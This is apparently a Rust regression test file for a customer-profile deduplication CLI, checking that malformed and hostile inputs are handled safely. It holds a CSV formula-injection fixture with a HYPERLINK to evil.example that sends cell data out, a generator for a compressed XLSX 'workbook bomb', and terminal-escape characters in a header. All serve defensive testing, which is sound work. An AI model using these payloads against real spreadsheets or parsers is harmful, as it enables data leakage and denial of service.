//! Inputs that were misread or crashed `plan`, and outputs that were not
//! safe to open (issue 12): a DECIMAL Parquet, a closed pipe, a formula id,
//! umask 077, a stale temporary file, a ФИО column, UTF-16 without a BOM,
//! hundreds of thousands of columns, a workbook bomb. Each runs the real
//! binary where the defect was in what the user sees.

use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::{Path, PathBuf};
use std::process::{Command, Stdio};
use std::time::{Duration, Instant};

use polars::prelude::{
    Column, DataFrame, DataType, IntoColumn, NamedFrom, ParquetWriter, Series, TimeUnit,
};
use sailmerge::load::{load_export_bytes, load_exports, profiles_from_frame};
use sailmerge::printer::Printer;
use sailmerge::settings::load::LoadSettings;

use crate::fixtures::{sample_profiles, write_every_format};
use crate::harness::{BINARY, command, repo_path, sailmerge_plan};

fn demo_export() -> PathBuf {
    repo_path("datasets/demo/export.csv")
}

/// Three profiles of one person (same phone, names and birth date) whose
/// ids start formulas, and a fourth of someone else.
const FORMULA_EXPORT: &str = "user_id,phone,email,first_name,last_name,birth_date\n\
=HYPERLINK(\"http://evil.example/?\"&A1;\"open\"),79161234567,anna@mail.ru,Анна,Смирнова,1990-03-07\n\
@SUM(1+1),79161234567,,Анна,Смирнова,1990-03-07\n\
-2+3,89161234567,anna@mail.ru,Анна,Смирнова,1990-03-07\n\
10001,79035550011,petr@mail.ru,Пётр,Кузнецов,1985-01-01\n";

/// The first 3,000 demo profiles with every user id turned into a formula
/// (`=ID10000010`, `+ID...`, `-ID...`, `@ID...` in turn).
fn demo_with_formula_ids(dir: &Path) -> PathBuf {
    let text = std::fs::read_to_string(demo_export()).unwrap();
    let mut lines = text.lines();
    let mut export = format!("{}\n", lines.next().unwrap());
    for (index, line) in lines.take(3000).enumerate() {
        let prefix = ["=", "+", "-", "@"][index % 4];
        export.push_str(&format!("{prefix}ID{line}\n"));
    }
    let path = dir.join("formula_ids.csv");
    std::fs::write(&path, export).unwrap();
    path
}

fn parquet_bytes(columns: Vec<Column>) -> Vec<u8> {
    let height = columns[0].len();
    let mut frame = DataFrame::new(height, columns).unwrap();
    let mut bytes = Vec::new();
    ParquetWriter::new(&mut bytes).finish(&mut frame).unwrap();
    bytes
}

#[test]
fn decimal_parquet_columns_read_as_their_digits() {
    let decimal = |name: &str, values: &[Option<i64>], scale: usize| {
        Series::new(name.into(), values)
            .cast(&DataType::Decimal(18, 0))
            .unwrap()
            .cast(&DataType::Decimal(18, scale))
            .unwrap()
            .into_column()
    };
    let bytes = parquet_bytes(vec![
        decimal("user_id", &[Some(1001), Some(1002)], 0),
        decimal("phone", &[Some(79_161_234_567), None], 0),
        decimal("points", &[Some(120), Some(7)], 2),
        decimal("amount", &[Some(12), None], 2),
    ]);
    let loaded = load_export_bytes(
        Path::new("decimal.parquet"),
        &bytes,
        &LoadSettings::default(),
        &Printer::silent(),
    )
    .unwrap();
    let profiles = profiles_from_frame(&loaded.frame).unwrap();
    assert_eq!(profiles[0].user_id, "1001");
    assert_eq!(profiles[0].phone.as_deref(), Some("79161234567"));
    assert_eq!(profiles[0].points.as_deref(), Some("120"));
    assert_eq!(profiles[0].extra["amount"], "12.00");
    assert_eq!(profiles[1].phone, None);
}

#[test]
fn decimal_parquet_through_plan_exits_0() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("decimal.parquet");
    let ids = Series::new("user_id".into(), &[1i64, 2, 3])
        .cast(&DataType::Decimal(18, 0))
        .unwrap();
    let bytes = parquet_bytes(vec![
        ids.into_column(),
        Series::new(
            "phone".into(),
            &["79161234567", "79161234567", "79035550011"],
        )
        .into_column(),
    ]);
    std::fs::write(&path, bytes).unwrap();
    let out = dir.path().join("out");
    let output = sailmerge_plan(&path, &out, &[]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(out.join("plan.json").exists());
}

#[test]
fn parquet_column_of_a_type_not_read_is_named_with_its_type() {
    let times = Series::new("visit_time".into(), &[3_600_000_000_000i64, 0])
        .cast(&DataType::Time)
        .unwrap();
    let durations = Series::new("tenure".into(), &[1i64, 2])
        .cast(&DataType::Duration(TimeUnit::Milliseconds))
        .unwrap();
    for (column, expected) in [(times, "time of day"), (durations, "duration")] {
        let bytes = parquet_bytes(vec![
            Series::new("user_id".into(), &["1", "2"]).into_column(),
            Series::new("phone".into(), &["79161234567", "79161234568"]).into_column(),
            column.into_column(),
        ]);
        let error = load_export_bytes(
            Path::new("typed.parquet"),
            &bytes,
            &LoadSettings::default(),
            &Printer::silent(),
        )
        .err()
        .unwrap()
        .to_string();
        assert!(
            error.contains("typed.parquet, column") && error.contains(expected),
            "{error}"
        );
    }
}

#[test]
fn corrupt_parquet_footers_are_load_errors_never_panics() {
    let good = parquet_bytes(vec![
        Series::new("user_id".into(), &["1", "2"]).into_column(),
        Series::new("phone".into(), &["79161234567", "79161234568"]).into_column(),
    ]);
    // Every byte of the footer (metadata and its length) set to each of a
    // few values: the kinds of damage the fuzzer found panicking polars.
    let footer = good.len().saturating_sub(200)..good.len() - 4;
    for position in footer {
        for value in [0x00, 0x7F, 0xFF] {
            let mut bytes = good.clone();
            bytes[position] = value;
            let _ = load_export_bytes(
                Path::new("corrupt.parquet"),
                &bytes,
                &LoadSettings::default(),
                &Printer::silent(),
            );
        }
    }
}

#[test]
fn closed_stderr_and_stdout_end_the_run_quietly_with_outputs_intact() {
    let dir = tempfile::tempdir().unwrap();
    let out = dir.path().join("out");
    // `plan ... 2>&1 | head -1`: the reader goes away after one line.
    let mut child = command(["plan", demo_export().to_str().unwrap(), "--out"])
        .arg(&out)
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut first_line = String::new();
    BufReader::new(child.stderr.take().unwrap())
        .read_line(&mut first_line)
        .unwrap();
    drop(child.stdout.take());
    let status = child.wait().unwrap();
    assert!(first_line.contains("10000 rows"), "{first_line}");
    assert_eq!(status.code(), Some(0));
    for file in ["clusters.csv", "plan.json", "report.html"] {
        let length = std::fs::metadata(out.join(file)).unwrap().len();
        assert!(length > 0, "{file} is empty");
    }
    // Data on a closed stdout: `--show-settings | head -0`.
    let child = command(["plan", "--show-settings"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut child = child;
    drop(child.stdout.take());
    let output = child.wait_with_output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    assert!(
        output.stderr.is_empty(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
}

#[test]
fn formula_ids_are_neutralised_in_clusters_csv_and_pairs() {
    let dir = tempfile::tempdir().unwrap();
    let export = demo_with_formula_ids(dir.path());
    let out = dir.path().join("out");
    let pairs = dir.path().join("pairs.csv");
    let output = sailmerge_plan(&export, &out, &["--pairs", pairs.to_str().unwrap()]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    for (file, columns) in [(out.join("clusters.csv"), 1), (pairs, 2)] {
        let mut reader = csv::Reader::from_path(&file).unwrap();
        let mut rows = 0;
        for record in reader.records() {
            let record = record.unwrap();
            for cell in record.iter().take(columns) {
                assert!(cell.starts_with('\''), "{cell:?} in {}", file.display());
                assert!(cell[1..].starts_with(['=', '+', '-', '@']), "{cell:?}");
            }
            rows += 1;
        }
        assert!(rows > 100, "{rows} rows in {}", file.display());
    }
    // The plan keeps the ids as they are: they are what apply sends.
    let plan = std::fs::read_to_string(out.join("plan.json")).unwrap();
    assert!(plan.contains("\"=ID100"), "the plan's ids were changed");
}

#[cfg(unix)]
#[test]
fn outputs_follow_the_umask() {
    use std::os::unix::fs::PermissionsExt;
    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("formula.csv");
    std::fs::write(&export, FORMULA_EXPORT).unwrap();
    let out = dir.path().join("out");
    for (umask, mode) in [("077", 0o600), ("022", 0o644)] {
        let script = format!(
            "umask {umask}; exec \"$0\" plan \"$1\" --out \"$2\" --pairs \"$2/pairs.csv\" -q"
        );
        let status = Command::new("sh")
            .args(["-c", &script, BINARY])
            .arg(&export)
            .arg(&out)
            .status()
            .unwrap();
        assert!(status.success());
        for file in ["clusters.csv", "plan.json", "report.html", "pairs.csv"] {
            let actual = std::fs::metadata(out.join(file))
                .unwrap()
                .permissions()
                .mode()
                & 0o777;
            assert_eq!(actual, mode, "{file} under umask {umask}");
        }
        // `approve` writes decisions.json through the same path.
        let status = Command::new("sh")
            .args([
                "-c",
                &format!("umask {umask}; exec \"$0\" approve \"$1\" --all --reviewer t -q"),
                BINARY,
            ])
            .arg(&out)
            .status()
            .unwrap();
        assert!(status.success());
        let actual = std::fs::metadata(out.join("decisions.json"))
            .unwrap()
            .permissions()
            .mode()
            & 0o777;
        assert_eq!(actual, mode, "decisions.json under umask {umask}");
        std::fs::remove_dir_all(&out).unwrap();
    }
}

#[test]
fn a_killed_runs_temporary_file_is_removed_by_the_next_run() {
    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("formula.csv");
    std::fs::write(&export, FORMULA_EXPORT).unwrap();
    let out = dir.path().join("out");
    std::fs::create_dir(&out).unwrap();
    // What a SIGKILL during `plan` leaves: a temp file of a process that
    // no longer exists, holding personal data.
    let stale = out.join(".sailmerge-4000000000-Qw3rTy.tmp");
    std::fs::write(&stale, "user_id,phone\n1,79161234567\n").unwrap();
    let mine = out.join("notes.tmp");
    std::fs::write(&mine, "the user's own file").unwrap();
    let output = sailmerge_plan(&export, &out, &[]);
    assert_eq!(output.status.code(), Some(0));
    assert!(!stale.exists(), "the stale temporary file is still there");
    assert!(mine.exists(), "a file that is not ours was removed");
}

/// The first 3,000 demo profiles with the three name columns, and the same
/// with one `ФИО` column (Фамилия Имя Отчество) in their place.
fn demo_with_full_name(dir: &Path) -> (PathBuf, PathBuf) {
    let text = std::fs::read_to_string(demo_export()).unwrap();
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let index = |name: &str| headers.iter().position(|h| h == name).unwrap();
    let (last, first, middle) = (
        index("last_name"),
        index("first_name"),
        index("middle_name"),
    );
    let separate = dir.join("separate.csv");
    let full = dir.join("full_name.csv");
    let mut separate_writer = csv::Writer::from_path(&separate).unwrap();
    let mut full_writer = csv::WriterBuilder::new()
        .delimiter(b';')
        .from_path(&full)
        .unwrap();
    separate_writer.write_record(&headers).unwrap();
    let mut full_headers: Vec<&str> = headers
        .iter()
        .enumerate()
        .filter(|(i, _)| ![last, first, middle].contains(i))
        .map(|(_, h)| h)
        .collect();
    full_headers.push("ФИО");
    full_writer.write_record(&full_headers).unwrap();
    for record in reader.records().take(3000) {
        let record = record.unwrap();
        separate_writer.write_record(&record).unwrap();
        let name: Vec<&str> = [last, first, middle]
            .iter()
            .map(|&i| &record[i])
            .filter(|part| !part.is_empty())
            .collect();
        let mut row: Vec<String> = record
            .iter()
            .enumerate()
            .filter(|(i, _)| ![last, first, middle].contains(i))
            .map(|(_, value)| value.to_string())
            .collect();
        row.push(name.join(" "));
        full_writer.write_record(&row).unwrap();
    }
    separate_writer.flush().unwrap();
    full_writer.flush().unwrap();
    (separate, full)
}

fn cluster_membership(out: &Path) -> Vec<(String, String)> {
    let mut reader = csv::Reader::from_path(out.join("clusters.csv")).unwrap();
    reader
        .records()
        .map(|record| {
            let record = record.unwrap();
            (record[0].to_string(), record[1].to_string())
        })
        .collect()
}

#[test]
fn a_full_name_column_finds_the_clusters_the_three_name_columns_find() {
    let dir = tempfile::tempdir().unwrap();
    let (separate, full) = demo_with_full_name(dir.path());
    let separate_out = dir.path().join("separate");
    let full_out = dir.path().join("full");
    let mapped_out = dir.path().join("mapped");
    for (export, out) in [(&separate, &separate_out), (&full, &full_out)] {
        let output = sailmerge_plan(export, out, &[]);
        assert_eq!(
            output.status.code(),
            Some(0),
            "{}",
            String::from_utf8_lossy(&output.stderr)
        );
        if export == &full {
            let stderr = String::from_utf8_lossy(&output.stderr);
            assert!(
                stderr.contains("names split from full_name \"ФИО\""),
                "{stderr}"
            );
        }
    }
    let expected = cluster_membership(&separate_out);
    assert!(
        expected.len() > 100,
        "{} clustered profiles",
        expected.len()
    );
    assert_eq!(cluster_membership(&full_out), expected);

    // The same column under a header sailmerge does not know: a warning,
    // and --map full_name= reads it.
    let custom = dir.path().join("custom.csv");
    std::fs::write(
        &custom,
        std::fs::read_to_string(&full)
            .unwrap()
            .replacen("ФИО", "Покупатель", 1),
    )
    .unwrap();
    let output = sailmerge_plan(&custom, &mapped_out, &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("warning: ") && stderr.contains("--map full_name=\"Покупатель\""),
        "{stderr}"
    );
    let output = sailmerge_plan(&custom, &mapped_out, &["--map", "full_name=Покупатель"]);
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert_eq!(cluster_membership(&mapped_out), expected);
}

#[test]
fn utf16_without_bom_reads_like_utf8_in_both_byte_orders() {
    let dir = tempfile::tempdir().unwrap();
    let expected = sample_profiles();
    let files = write_every_format(&expected, dir.path());
    let csv = std::fs::read_to_string(&files[0].path).unwrap();
    for (name, big_endian) in [("le.csv", false), ("be.txt", true)] {
        let bytes: Vec<u8> = csv
            .encode_utf16()
            .flat_map(|unit| {
                if big_endian {
                    unit.to_be_bytes()
                } else {
                    unit.to_le_bytes()
                }
            })
            .collect();
        let path = dir.path().join(name);
        std::fs::write(&path, bytes).unwrap();
        let loaded = load_exports(&[path], &LoadSettings::default(), &Printer::silent())
            .unwrap_or_else(|error| panic!("{name}: {error:#}"));
        assert_eq!(
            profiles_from_frame(&loaded.frame).unwrap(),
            expected,
            "{name}"
        );
        let encoding = loaded.quality.files[0].encoding.clone();
        let wanted = if big_endian { "utf-16be" } else { "utf-16le" };
        assert_eq!(encoding.as_deref(), Some(wanted));
    }
}

/// An export of two profiles and `columns` columns, all but two empty.
fn wide_export(columns: usize) -> Vec<u8> {
    let mut text = String::from("user_id,phone");
    for index in 2..columns {
        text.push_str(&format!(",c{index}"));
    }
    let empty = ",".repeat(columns - 2);
    text.push_str(&format!("\n1,79161234567{empty}\n2,79161234568{empty}\n"));
    text.into_bytes()
}

fn seconds_to_load(columns: usize) -> f64 {
    let bytes = wide_export(columns);
    let started = Instant::now();
    let loaded = load_export_bytes(
        Path::new("wide.csv"),
        &bytes,
        &LoadSettings::default(),
        &Printer::silent(),
    )
    .unwrap();
    let profiles = profiles_from_frame(&loaded.frame).unwrap();
    assert!(loaded.frame.width() > columns && profiles.len() == 2);
    started.elapsed().as_secs_f64()
}

#[test]
fn load_time_is_linear_in_the_column_count() {
    // Ten times the columns in ten-odd times the time; quadratic renaming
    // took a hundred times as long (100k columns: 52.8 s in release).
    let small = seconds_to_load(10_000);
    let large = seconds_to_load(100_000);
    assert!(
        large < 40.0 * small.max(0.05) && large < Duration::from_secs(60).as_secs_f64(),
        "10k columns in {small:.2} s, 100k in {large:.2} s"
    );
}

/// An XLSX whose sheet is one row repeated 200,000 times as inline
/// strings: about 20 MB of XML that deflate packs into a few tens of KB.
fn workbook_bomb(path: &Path) {
    use std::io::Write;
    let mut zip = zip::ZipWriter::new(File::create(path).unwrap());
    let options = zip::write::SimpleFileOptions::default()
        .compression_method(zip::CompressionMethod::Deflated);
    let parts = [
        (
            "[Content_Types].xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml"/></Types>"#,
        ),
        (
            "_rels/.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>"#,
        ),
        (
            "xl/workbook.xml",
            r#"<?xml version="1.0" encoding="UTF-8"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="Sheet1" sheetId="1" r:id="rId1"/></sheets></workbook>"#,
        ),
        (
            "xl/_rels/workbook.xml.rels",
            r#"<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>"#,
        ),
    ];
    for (name, text) in parts {
        zip.start_file(name, options).unwrap();
        zip.write_all(text.as_bytes()).unwrap();
    }
    zip.start_file("xl/worksheets/sheet1.xml", options).unwrap();
    zip.write_all(br#"<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row><c t="inlineStr"><is><t>user_id</t></is></c><c t="inlineStr"><is><t>phone</t></is></c></row>"#).unwrap();
    let row = r#"<row><c t="inlineStr"><is><t>1</t></is></c><c t="inlineStr"><is><t>79161234567</t></is></c></row>"#.repeat(1000);
    for _ in 0..200 {
        zip.write_all(row.as_bytes()).unwrap();
    }
    zip.write_all(b"</sheetData></worksheet>").unwrap();
    zip.finish().unwrap();
}

#[test]
fn a_workbook_bomb_is_refused_before_it_is_parsed() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("bomb.xlsx");
    workbook_bomb(&path);
    let packed = std::fs::metadata(&path).unwrap().len();
    assert!(packed < 200_000, "the bomb is {packed} bytes");
    let out = dir.path().join("out");
    let output = sailmerge_plan(&path, &out, &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("bomb.xlsx: the workbook")
            && stderr.contains("\"xl/worksheets/sheet1.xml\"")
            && stderr.contains("more than 100 times")
            && stderr.contains("save the sheet as CSV"),
        "{stderr}"
    );
}

#[test]
fn a_stray_far_cell_is_refused_without_allocating_the_grid() {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("stray.xlsx");
    let mut workbook = rust_xlsxwriter::Workbook::new();
    let sheet = workbook.add_worksheet();
    sheet.write_string(0, 0, "user_id").unwrap();
    sheet.write_string(0, 1, "phone").unwrap();
    sheet.write_string(1, 0, "1").unwrap();
    sheet.write_string(1, 1, "79161234567").unwrap();
    sheet.write_string(1_048_575, 16_383, "x").unwrap();
    workbook.save(&path).unwrap();
    let output = sailmerge_plan(&path, &dir.path().join("out"), &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("1048576 rows × 16384 columns"), "{stderr}");
}

#[test]
fn terminal_escapes_in_values_reach_stderr_escaped() {
    let dir = tempfile::tempdir().unwrap();
    let export = dir.path().join("escape.csv");
    std::fs::write(
        &export,
        "user_id,phone,note\u{1b}[2J\u{202e}\n1,79161234567,a\n2,79161234568,b\n",
    )
    .unwrap();
    let output = sailmerge_plan(&export, &dir.path().join("out"), &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("custom: note\\u{1b}[2J\\u{202e}"),
        "{stderr}"
    );
    assert!(
        !stderr.contains('\u{1b}') && !stderr.contains('\u{202e}'),
        "{stderr:?}"
    );
}

#[test]
fn parquet_dictionary_page_that_panicked_polars_is_a_load_error() {
    // Found by scripts/fuzz_loaders.sh: a dictionary-encoded page whose
    // indices cover fewer rows than the page declares fails a debug
    // assertion in polars-parquet (and a page-header error in release).
    let path = repo_path("tests/fixtures/load/corrupt_dictionary_page.parquet");
    let error = load_exports(&[path], &LoadSettings::default(), &Printer::silent())
        .err()
        .unwrap()
        .to_string();
    assert!(
        error.contains("corrupt_dictionary_page.parquet: cannot read the Parquet file"),
        "{error}"
    );
}

#[test]
fn parquet_half_float_column_that_hit_unreachable_in_polars_is_named() {
    // A float16 column (pyarrow writes them) reached an `unreachable!()` in
    // polars-io and ended `plan` with exit 101; the file is kept as made by
    // pyarrow 26 (user_id, phone, and x: float16).
    let path = repo_path("tests/fixtures/load/float16_column.parquet");
    let output = sailmerge_plan(&path, &tempfile::tempdir().unwrap().path().join("out"), &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(
        stderr.contains("float16_column.parquet, column \"x\": values of type float16"),
        "{stderr}"
    );
}

#[test]
fn parquet_files_that_panicked_polars_are_load_errors() {
    // Found by scripts/fuzz_loaders.sh, each named after where polars
    // panicked (corrupt thrift metadata, bit widths, offsets past the end
    // of a page); 11 of the 12 ended `plan` of main at 4a34736 with exit
    // 101 (the other panics in debug builds only). Each must now be a load error naming the file.
    let dir = repo_path("tests/fixtures/load/parquet_panics");
    let mut files: Vec<PathBuf> = std::fs::read_dir(&dir)
        .unwrap()
        .map(|entry| entry.unwrap().path())
        .collect();
    files.sort();
    assert_eq!(files.len(), 12);
    for file in files {
        let name = file.file_name().unwrap().to_string_lossy().into_owned();
        let error = load_exports(
            std::slice::from_ref(&file),
            &LoadSettings::default(),
            &Printer::silent(),
        )
        .err()
        .unwrap_or_else(|| panic!("{name} loaded"))
        .to_string();
        assert!(
            error.contains(&format!("{name}: cannot read the Parquet file")),
            "{name}: {error}"
        );
    }
}

#[test]
fn parquet_page_with_a_negative_value_count_is_a_load_error() {
    // Found by scripts/fuzz_loaders.sh: a 1.6 KB file whose footer is sound
    // (9 rows) but one of whose data pages declares a negative number of
    // values; polars-parquet reserves a validity bitmap for it as an
    // unsigned count, asks for 2^61 bytes, and the allocation failure
    // aborted `plan` with exit 134; page headers are now checked before
    // polars decodes them.
    let path = repo_path("tests/fixtures/load/negative_page_value_count.parquet");
    let output = sailmerge_plan(&path, &tempfile::tempdir().unwrap().path().join("out"), &[]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(2), "{stderr}");
    assert!(stderr.contains("cannot read the Parquet file"), "{stderr}");
}
